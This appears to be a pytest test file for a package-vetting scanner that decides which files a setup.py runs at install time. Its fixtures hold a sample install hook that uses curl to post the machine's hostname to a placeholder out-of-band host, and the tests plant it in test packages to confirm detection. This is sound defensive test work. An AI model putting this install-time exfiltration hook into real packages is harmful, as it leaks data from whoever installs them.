"""Files a setup.py runs at install time are judged as install-time code."""

from __future__ import annotations

import hashlib
from pathlib import Path

import pytest

from depvet.advisories.feed import Indicator, IndicatorKind
from depvet.detectors import registry
from depvet.detectors.install_reach import imported_folders, is_test_file, promote, run_by_setup
from depvet.detectors.known import IndicatorDetector
from depvet.model import Scope, Target, TargetKind, Verdict
from depvet.scan import ScanOptions, scan
from tests.builders import make_sdist, make_wheel

FILES = {
    "pre_install.py": "pkg-1.0/pre_install.py",
    "tools/beacon.py": "pkg-1.0/tools/beacon.py",
    "pkg/__init__.py": "pkg-1.0/pkg/__init__.py",
    "pkg/collect.py": "pkg-1.0/pkg/collect.py",
    "versioneer.py": "pkg-1.0/versioneer.py",
    "bin/tool.py": "pkg-1.0/bin/tool.py",
}


def reached(source: str) -> set[str]:
    return run_by_setup(source.encode(), FILES)


def test_imported_single_file_modules_and_started_scripts() -> None:
    assert reached("from pre_install import pre_install\n") == {"pkg-1.0/pre_install.py"}
    assert reached(
        "import subprocess, sys\nsubprocess.run([sys.executable, 'tools/beacon.py'])\n"
    ) == {"pkg-1.0/tools/beacon.py"}
    assert reached("import os\nos.system('python3 ./tools/beacon.py &')\n") == {
        "pkg-1.0/tools/beacon.py"
    }
    assert reached(
        "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pkg.collect'])\n"
    ) == {"pkg-1.0/pkg/collect.py"}
    assert reached("exec(open('tools/beacon.py').read())\n") == {"pkg-1.0/tools/beacon.py"}
    # A program given with -c that imports a module of the tree runs that module.
    assert reached(
        "import subprocess\n"
        "subprocess.run(['python', '-c', 'import pkg.collect; pkg.collect.main()'])\n"
    ) == {"pkg-1.0/pkg/collect.py"}
    assert reached("import os\nos.system('python -c \"from pre_install import go; go()\"')\n") == {
        "pkg-1.0/pre_install.py"
    }


def test_what_honest_setup_files_do_is_not_followed() -> None:
    assert reached("from pkg import __version__\n") == set()  # the package itself
    assert reached("setup(scripts=['bin/tool.py'])\n") == set()  # installed, not run
    assert reached("print('run python tools/beacon.py by hand')\n") == set()
    assert (
        reached("import os\nos.system('python -c \"import numpy; print(numpy.__file__)\"')\n")
        == set()
    )
    assert reached("def broken(:\n") == set()
    # versioneer is imported and does run: followed, like any single-file module.
    assert reached("import versioneer\n") == {"pkg-1.0/versioneer.py"}


def test_promote_changes_only_the_reached_files() -> None:
    from depvet.detectors.patterns import OOB_INTERACTION

    inside = OOB_INTERACTION.finding(
        path="pkg-1.0/pre_install.py", line=3, message="m", evidence="e"
    )
    outside = OOB_INTERACTION.finding(path="pkg-1.0/pkg/x.py", line=3, message="m", evidence="e")
    done = promote([inside, outside], {"pkg-1.0/pre_install.py"})
    assert done[0].scope is Scope.INSTALL and "setup.py runs this file" in done[0].message
    assert done[1] == outside


PRE_INSTALL = """\
import os


def pre_install():
    os.system('curl -s -d "$(hostname)" https://probe.oast.example.invalid.m.pipedream.net')
"""

SETUP = """\
from setuptools import setup
from setuptools.command.install import install
from pre_install import pre_install


class CustomInstall(install):
    def run(self):
        pre_install()
        super().run()


setup(name="pkg", version="1.0", cmdclass={"install": CustomInstall})
"""


def test_a_probe_handed_to_a_local_module_is_found(tmp_path: Path) -> None:
    sdist = make_sdist(tmp_path, "pkg", "1.0", {"setup.py": SETUP, "pre_install.py": PRE_INSTALL})
    (tmp_path / "alone").mkdir()
    alone = make_sdist(tmp_path / "alone", "pkg", "1.0", {"pre_install.py": PRE_INSTALL})
    results, _summary, _errors = scan(
        [Target(kind=TargetKind.FILE, path=p, display=p.name) for p in (sdist, alone)],
        ScanOptions(jobs=1),
    )
    handed, unreferenced = results
    assert handed.verdict is not Verdict.CLEAN
    assert "combination:install-exfiltration" in handed.decided_by
    assert any("setup.py runs this file" in f.message for f in handed.findings)
    assert unreferenced.verdict is Verdict.CLEAN


TOOLS_SETUP = """\
import subprocess
import sys

from setuptools import setup

subprocess.call([sys.executable, "tools/post_install.py"])
setup(name="pkg", version="1.0")
"""


def test_a_tools_script_setup_py_starts_is_scanned(tmp_path: Path) -> None:
    # tools/ is not installed, so its files are skipped, unless setup.py runs one.
    script = PRE_INSTALL + "pre_install()\n"
    sdist = make_sdist(
        tmp_path, "pkg", "1.0", {"setup.py": TOOLS_SETUP, "tools/post_install.py": script}
    )
    (tmp_path / "unrun").mkdir()
    plain_setup = "from setuptools import setup\nsetup()\n"
    unrun = make_sdist(
        tmp_path / "unrun", "pkg", "1.0", {"setup.py": plain_setup, "tools/post_install.py": script}
    )
    results, _summary, _errors = scan(
        [Target(kind=TargetKind.FILE, path=p, display=str(p)) for p in (sdist, unrun)],
        ScanOptions(jobs=1),
    )
    started, left_alone = results
    assert started.verdict is not Verdict.CLEAN, started.findings
    in_tools = [f for f in started.findings if f.path == "pkg-1.0/tools/post_install.py"]
    assert in_tools and all(f.scope is Scope.INSTALL for f in in_tools)
    assert not started.errors
    assert left_alone.verdict is Verdict.CLEAN
    assert not [f for f in left_alone.findings if "tools/" in (f.path or "")]


def test_a_project_named_like_a_tools_folder_is_scanned(tmp_path: Path) -> None:
    # The package of a project called "tools" is its tools/ folder.
    payload = PRE_INSTALL + "pre_install()\n"
    sdist = make_sdist(
        tmp_path,
        "tools",
        "1.0",
        {
            "setup.py": "from setuptools import setup\nsetup(name='tools')\n",
            "tools/__init__.py": payload,
            "tools/tests/test_probe.py": payload,
        },
    )
    (tmp_path / "other").mkdir()
    other = make_sdist(
        tmp_path / "other", "pkg", "1.0", {"pkg/__init__.py": "", "tools/probe.py": payload}
    )
    results, _summary, _errors = scan(
        [Target(kind=TargetKind.FILE, path=p, display=str(p)) for p in (sdist, other)],
        ScanOptions(jobs=1),
    )
    named, unnamed = results
    assert named.name == "tools" and named.verdict is not Verdict.CLEAN
    assert {f.path for f in named.findings if f.path and "/tools/" in f.path} == {
        "tools-1.0/tools/__init__.py"
    }
    assert unnamed.verdict is Verdict.CLEAN


def test_imports_of_tools_folders_are_read_as_words() -> None:
    source = b"import os\nfrom tools.helper import go\nimport scripts\nimport docutils\n"
    assert imported_folders(source) == {"tools", "scripts"}
    # An import inside a function (a test command's) runs only if it is called.
    assert imported_folders(b"def run(self):\n    import tests\n") == set()
    # A word that only starts like a folder, or prose, is no import of it.
    assert imported_folders(b"import toolsx\nfrom docstring_parser import x\n") == set()
    assert imported_folders(b"# you could import tools here\n") == set()


def test_test_files_are_known_by_name() -> None:
    assert is_test_file("test_swift.py") and is_test_file("api_test.py")
    assert is_test_file("conftest.py")
    assert not is_test_file("testing.py") and not is_test_file("__init__.py")


def test_a_tools_folder_the_package_imports_is_scanned(tmp_path: Path) -> None:
    payload = PRE_INSTALL + "pre_install()\n"
    files = {
        "setup.py": "import setuptools\nsetuptools.setup(packages=setuptools.find_packages())\n",
        "tools/__init__.py": "",
        "tools/collect.py": payload,
    }
    imports = make_sdist(
        tmp_path, "pkg", "1.0", {**files, "pkg/__init__.py": "import tools.collect\n"}
    )
    (tmp_path / "quiet").mkdir()
    quiet = make_sdist(tmp_path / "quiet", "pkg", "1.0", {**files, "pkg/__init__.py": ""})
    results, _summary, _errors = scan(
        [Target(kind=TargetKind.FILE, path=p, display=str(p)) for p in (imports, quiet)],
        ScanOptions(jobs=1),
    )
    imported, left_alone = results
    assert imported.verdict is not Verdict.CLEAN
    assert any(f.path == "pkg-1.0/tools/collect.py" for f in imported.findings)
    assert left_alone.verdict is Verdict.CLEAN


def test_scripts_of_nested_tools_and_vendored_folders_are_not_installed(tmp_path: Path) -> None:
    # Below the tree's top, a scripts/ or third_party/ folder outside every package holds
    # the project's tooling or a vendored project's: nothing installs or imports it.
    payload = PRE_INSTALL + "pre_install()\n"
    tooling = {
        "vendor/llama.cpp/scripts/sync.py": payload,
        "website/scripts/build_pages.py": payload,
        "external/lib/third_party/mbedtls/gen.py": payload,
    }
    loose = make_sdist(tmp_path, "pkg", "1.0", {"pkg/__init__.py": "", **tooling})
    # The same file inside a package is installed with it, wherever the package's
    # __init__.py comes in the archive: after the script, or before it.
    (tmp_path / "late").mkdir()
    late = make_sdist(
        tmp_path / "late", "pkg", "1.0", {"pkg/tools/fetch.py": payload, "pkg/__init__.py": ""}
    )
    (tmp_path / "early").mkdir()
    early = make_sdist(
        tmp_path / "early", "pkg", "1.0", {"pkg/__init__.py": "", "pkg/tools/fetch.py": payload}
    )
    # One setup.py runs is install-time code wherever it sits.
    (tmp_path / "run").mkdir()
    run = make_sdist(
        tmp_path / "run",
        "pkg",
        "1.0",
        {
            "setup.py": TOOLS_SETUP.replace("tools/post_install.py", "vendor/lib/tools/post.py"),
            "vendor/lib/tools/post.py": payload,
        },
    )
    results, _summary, _errors = scan(
        [Target(kind=TargetKind.FILE, path=p, display=str(p)) for p in (loose, late, early, run)],
        ScanOptions(jobs=1),
    )
    left_out, after, before, started = results
    assert left_out.verdict is Verdict.CLEAN, left_out.findings
    assert not [f for f in left_out.findings if f.path and f.path.endswith(".py")]
    for packaged in (after, before):
        assert packaged.verdict is not Verdict.CLEAN
        assert any(f.path == "pkg-1.0/pkg/tools/fetch.py" for f in packaged.findings)
        assert not packaged.errors
    assert len(after.findings) == len(before.findings)
    assert started.verdict is not Verdict.CLEAN
    in_vendor = [f for f in started.findings if f.path == "pkg-1.0/vendor/lib/tools/post.py"]
    assert in_vendor and all(f.scope is Scope.INSTALL for f in in_vendor)


def test_a_sphinx_config_outside_every_package_is_not_installed(tmp_path: Path) -> None:
    # The doc builder reads web/conf.py (docs kept in a folder not named docs/); the same
    # file name in a package is the package's own module.
    payload = PRE_INSTALL + "pre_install()\n"
    docs = make_sdist(tmp_path, "pkg", "1.0", {"pkg/__init__.py": "", "web/conf.py": payload})
    (tmp_path / "pkg").mkdir()
    module = make_sdist(
        tmp_path / "pkg", "pkg", "1.0", {"pkg/conf.py": payload, "pkg/__init__.py": ""}
    )
    results, _summary, _errors = scan(
        [Target(kind=TargetKind.FILE, path=p, display=str(p)) for p in (docs, module)],
        ScanOptions(jobs=1),
    )
    left_out, packaged = results
    assert left_out.verdict is Verdict.CLEAN, left_out.findings
    assert packaged.verdict is not Verdict.CLEAN
    assert any(f.path == "pkg-1.0/pkg/conf.py" for f in packaged.findings)


def test_a_wheel_installs_its_nested_tools_folders(tmp_path: Path) -> None:
    payload = PRE_INSTALL + "pre_install()\n"
    wheel = make_wheel(tmp_path, "pkg", "1.0", {"pkg/vendor/lib/scripts/sync.py": payload})
    results, _summary, _errors = scan(
        [Target(kind=TargetKind.FILE, path=wheel, display=wheel.name)], ScanOptions(jobs=1)
    )
    assert results[0].verdict is not Verdict.CLEAN


def test_a_file_read_again_as_code_reports_its_indicator_once(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The first reading, as a tools file, reports a known-bad hash; so does the second.
    payload = PRE_INSTALL + "pre_install()\n"
    known = Indicator(
        kind=IndicatorKind.SHA256,
        value=hashlib.sha256(payload.encode()).hexdigest(),
        advisory="T-1",
    )
    detectors = tuple(
        IndicatorDetector([known]) if isinstance(d, IndicatorDetector) else d
        for d in registry.detectors()
    )
    monkeypatch.setattr(registry, "detectors", lambda: detectors)
    sdist = make_sdist(
        tmp_path, "pkg", "1.0", {"pkg/tools/fetch.py": payload, "pkg/__init__.py": ""}
    )
    results, _summary, _errors = scan(
        [Target(kind=TargetKind.FILE, path=sdist, display=sdist.name)], ScanOptions(jobs=1)
    )
    hits = [f for f in results[0].findings if f.rule == "known-bad-indicator"]
    assert [f.path for f in hits] == ["pkg-1.0/pkg/tools/fetch.py"]
